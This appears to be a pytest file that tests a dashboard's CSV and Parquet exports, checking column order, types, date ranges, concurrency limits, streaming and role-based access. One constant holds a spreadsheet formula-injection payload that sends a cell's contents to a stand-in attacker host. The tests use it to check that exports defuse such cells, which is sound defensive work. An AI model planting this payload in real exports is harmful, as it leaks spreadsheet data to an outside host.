"""Views taken away as files: whole, in order, with their types, a portion at a time, and harmless in a spreadsheet."""

import csv
import io
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pyarrow
import pytest
from hypothesis import given
from hypothesis import strategies as st
from pyarrow import parquet

from config.sections.dashboard import AccountRole
from dashboard.api.tables import CSV_ROWS, GROUP_ROWS, csv_of, parquet_of
from dashboard.installation import EXPORTS_AT_ONCE, Installation
from db.tables.studies import Study
from db.views.definitions import View
from db.views.rows import RANGES, documented_view, kind_of
from tests.dashboard.conftest import SignIn
from tests.support import lab
from tests.support.audit_trail import QUERY, asked_by_people
from tests.support.browsing import Browser

EXPORTS = "/api/v1/exports"
FORMULA = '=HYPERLINK("https://evil.example?"&A1)'
SMALL = View(name="v", version=1, meaning="", columns={"reason": "", "value": "", "at": "", "is_open": ""}, query="")


@pytest.fixture
def reader(here: Installation, as_role: SignIn) -> Browser:
    with here.database.write() as session:
        lab.fill(session)
        session.get_one(Study, 2).reason = FORMULA
    return as_role(AccountRole.READER)


def table_of(browser: Browser, view: str, days: str = "") -> pyarrow.Table:
    answer = browser.get(f"{EXPORTS}/{view}.parquet{days}")
    assert answer.status_code == 200, answer.text
    return parquet.read_table(io.BytesIO(answer.content))


def rows_of(browser: Browser, view: str, days: str = "") -> list[dict[str, str]]:
    answer = browser.get(f"{EXPORTS}/{view}.csv{days}")
    assert answer.headers["content-type"].startswith("text/csv")
    assert f'filename="{view}.csv"' in answer.headers["content-disposition"]
    return list(csv.DictReader(io.StringIO(answer.text, newline="")))


def test_every_view_comes_whole_in_the_order_of_its_columns_in_both_kinds_of_files(reader: Browser) -> None:
    for view in RANGES:
        table, rows = table_of(reader, view), rows_of(reader, view)
        assert table.column_names == list(documented_view(view).columns), view
        assert table.num_rows == len(rows) > 0, view
        assert list(rows[0]) == table.column_names


def test_no_more_exports_than_some_hold_a_connection_and_one_that_ends_or_fails_gives_its_place_back(
    here: Installation, reader: Browser
) -> None:
    for _ in range(EXPORTS_AT_ONCE + 1):
        assert reader.get(f"{EXPORTS}/v_no_such.csv").status_code == 404
        assert rows_of(reader, "v_turnaround")
    for _ in range(EXPORTS_AT_ONCE):
        assert here.exports.acquire(blocking=False), "those before are over"
    refused = reader.get(f"{EXPORTS}/v_turnaround.csv")
    assert (refused.status_code, refused.headers["retry-after"]) == (503, "60")
    here.exports.release()
    assert rows_of(reader, "v_turnaround")


def test_parquet_keeps_times_numbers_and_what_is_not_there(reader: Browser) -> None:
    table = table_of(reader, "v_turnaround")
    assert table.schema.field("delivered_at").type == pyarrow.timestamp("us", tz="UTC")
    assert table.schema.field("failed_attempts").type == pyarrow.int64()
    (first,) = [row for row in table.to_pylist() if row["study_instance_uid"] == "1.2.1"]
    assert first["delivered_at"] == lab.OCTOBER + timedelta(seconds=600)
    assert (first["total_s"], first["failed_attempts"], first["prepared_at"].tzinfo is None) == (570.0, 1, False)
    assert table.schema.field("total_s").metadata[b"description"].startswith(b"from the last instance")
    days = table_of(reader, "v_intake_daily").to_pylist()
    assert {row["day"] for row in days} == {date(2026, 10, 31), date(2026, 11, 1)}
    states = {row["study_instance_uid"]: row["is_open"] for row in table_of(reader, "v_discordances").to_pylist()}
    assert states == {"1.2.1": False, "1.2.2": True, "1.2.3": False}
    lvef = {row["run_uid"]: row["value"] for row in table_of(reader, "v_current_results").to_pylist()}
    assert lvef["fifth"] is None or lvef["fourth"] is None, "an answer that was not given has no number"


def test_a_range_of_days_holds_both_ends(reader: Browser) -> None:
    def found(days: str, view: str = "v_turnaround") -> set[str]:
        return {row["study_instance_uid"] for row in rows_of(reader, view, days)}

    assert found("?until=2026-10-31") == {"1.2.1"}
    assert found("?since=2026-11-01") == {"1.2.2", "1.2.3", "1.2.4", "1.2.5"} & found("")
    assert "1.2.1" in found("?since=2026-10-31&until=2026-10-31")
    assert {row["day"] for row in rows_of(reader, "v_drift_daily", "?until=2026-10-31")} == {"2026-10-31"}
    assert rows_of(reader, "v_states", "?since=2030-01-01"), "what is of this moment has no days"


def test_a_text_that_a_spreadsheet_would_reckon_with_is_defused_and_a_negative_number_is_none(reader: Browser) -> None:
    reasons = {row["reason"] for row in rows_of(reader, "v_worklist")}
    assert f"'{FORMULA}" in reasons
    assert FORMULA not in reasons
    rows = [("-2+3", -2.5, datetime(2026, 1, 1, tzinfo=UTC), True), (None, None, None, None)]
    _, first, second = list(csv.reader(io.StringIO(b"".join(csv_of(SMALL, rows)).decode(), newline="")))
    assert first == ["'-2+3", "-2.5", "2026-01-01T00:00:00+00:00", "true"]
    assert second == ["", "", "", ""]


@given(st.lists(st.text(alphabet=st.characters(exclude_characters="\x00", exclude_categories=("Cs",))), max_size=5))
def test_no_cell_begins_a_formula_and_every_text_can_be_read_back(texts: list[str]) -> None:
    rows = [(text, None, None, None) for text in texts]
    written = list(csv.reader(io.StringIO(b"".join(csv_of(SMALL, rows)).decode(), newline="")))[1:]
    assert len(written) == len(texts)
    for (cell, *_), text in zip(written, texts, strict=True):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert cell.removeprefix("'") == text.removeprefix("'")


def test_a_file_is_written_while_its_rows_are_read_so_that_none_fills_the_memory() -> None:
    taken = 0

    def rows(count: int) -> Iterator[tuple[Any, ...]]:
        nonlocal taken
        for number in range(count):
            taken += 1
            yield f"text {number}", float(number), datetime(2026, 1, 1, tzinfo=UTC), False

    next(csv_of(SMALL, rows(10 * CSV_ROWS)))
    assert taken <= 2 * CSV_ROWS
    taken = 0
    parts = parquet_of(SMALL, rows(2 * GROUP_ROWS + 1))
    first = next(parts)
    assert taken <= GROUP_ROWS + 1
    file = parquet.ParquetFile(io.BytesIO(first + b"".join(parts)))
    assert (file.num_row_groups, file.metadata.num_rows) == (3, 2 * GROUP_ROWS + 1)


def test_what_reports_say_goes_to_readers_alone_and_is_in_the_trail(here: Installation, reader: Browser) -> None:
    assert rows_of(reader, "v_discordances")[0]["first_said"] == "55 to 60 %"
    (asked,) = asked_by_people(here.settings.audit_dir, QUERY)
    assert (asked.user, asked.objects) == ("a-reader", ("export of v_discordances",))
    assert {each["name"] for each in reader.get(EXPORTS).json()} == set(RANGES)


def test_a_viewer_takes_what_says_nothing_of_reports(here: Installation, as_role: SignIn) -> None:
    viewer = as_role(AccountRole.VIEWER)
    for view, status in (("v_worklist", 403), ("v_discordances", 403), ("v_states", 200)):
        assert viewer.get(f"{EXPORTS}/{view}.csv").status_code == status
        assert viewer.get(f"{EXPORTS}/{view}.parquet").status_code == status
    assert {each["name"] for each in viewer.get(EXPORTS).json()} == set(RANGES) - {"v_worklist", "v_discordances"}
    assert table_of(viewer, "v_turnaround").num_rows == 0, "an empty view is a file all the same"
    assert kind_of("state") == "text"
